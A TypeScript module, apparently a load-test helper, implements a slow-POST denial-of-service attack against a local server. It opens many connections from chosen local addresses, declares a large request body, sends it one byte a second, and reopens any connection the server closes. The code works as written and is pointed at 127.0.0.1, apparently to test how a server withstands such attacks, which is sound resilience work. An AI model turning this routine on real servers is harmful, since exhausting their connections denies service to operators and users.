import { once } from 'node:events';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** The path that a connection requests, and its headers. */
export interface SlowRequest {
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** How many connections one local address opens. */
export interface Attacker {
  readonly from: string;
  readonly connections: number;
}

/**
 * Opens connections that each start a POST and send its body at one byte a second, and reopens those that the platform
 * closes, until it is stopped.
 */
export async function attackSlowly(base: string, requests: readonly SlowRequest[], attackers: readonly Attacker[]) {
  const port = Number(new URL(base).port);
  const open = new Set<net.Socket>();
  let isOver = false;

  async function connect(from: string, request: SlowRequest): Promise<void> {
    const socket = net.connect({ host: '127.0.0.1', port, localAddress: from });
    socket.on('error', () => undefined); // the close handler deals with whatever ended the connection
    socket.once('close', async () => {
      open.delete(socket);
      await delay(2000, undefined, { ref: false });
      if (!isOver) await connect(from, request);
    });
    socket.resume();
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined);
    open.add(socket);
    socket.write(headOf(request, port));
  }

  for (const { from, connections } of attackers) {
    for (let opened = 0; opened < connections; opened += 50) {
      const batch = Array.from({ length: 50 }, (_, index) => requests[index % requests.length] ?? { path: '/' });
      await Promise.all(batch.map((request) => connect(from, request)));
    }
  }
  const trickle = setInterval(() => {
    for (const socket of open) socket.write(' ');
  }, 1000);
  return {
    stop(): void {
      isOver = true;
      clearInterval(trickle);
      for (const socket of open) socket.destroy();
    },
  };
}

function headOf({ path, headers = {} }: SlowRequest, port: number): string {
  const lines = Object.entries({ Host: `localhost:${port}`, 'Content-Length': '60000', ...headers });
  return `POST ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n{`;
}
